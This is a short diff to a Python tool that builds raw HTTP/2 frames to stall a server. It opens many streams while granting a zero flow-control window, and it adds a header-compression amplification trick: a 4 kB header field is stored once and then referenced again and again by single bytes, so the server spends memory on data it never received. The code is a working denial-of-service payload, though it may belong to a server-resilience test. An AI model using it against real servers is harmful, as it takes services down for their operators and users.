@@ -187,11 +187,16 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload
 
 
-def stalled(connection: socket.socket, streams: int) -> None:
-    """Ask for /long so often over HTTP/2, and let no answer come."""
+def stalled(connection: socket.socket, streams: int, repeats: int = 0) -> None:
+    """Ask for /long so often over HTTP/2, and let no answer come.
+
+    :param repeats: how often each head has a field of 4 kB, which is sent once and then named in a byte.
+    """
     no_window = (4).to_bytes(2) + (0).to_bytes(4)
     head = b"\x82\x87\x04" + _text("/long") + b"\x01" + _text("cards.example.org")  # GET, https, :path, :authority
-    requests = b"".join(frame(1, 5, 2 * number + 1, head) for number in range(streams))
+    field = b"\x40" + _text("a") + b"\x7f\xd3\x1e" + b"b" * 4050  # a literal that gets the number 62
+    heads = [head + (field if repeats and not number else b"") + b"\xbe" * repeats for number in range(streams)]
+    requests = b"".join(frame(1, 5, 2 * number + 1, one) for number, one in enumerate(heads))
     connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, no_window) + requests)
 
 
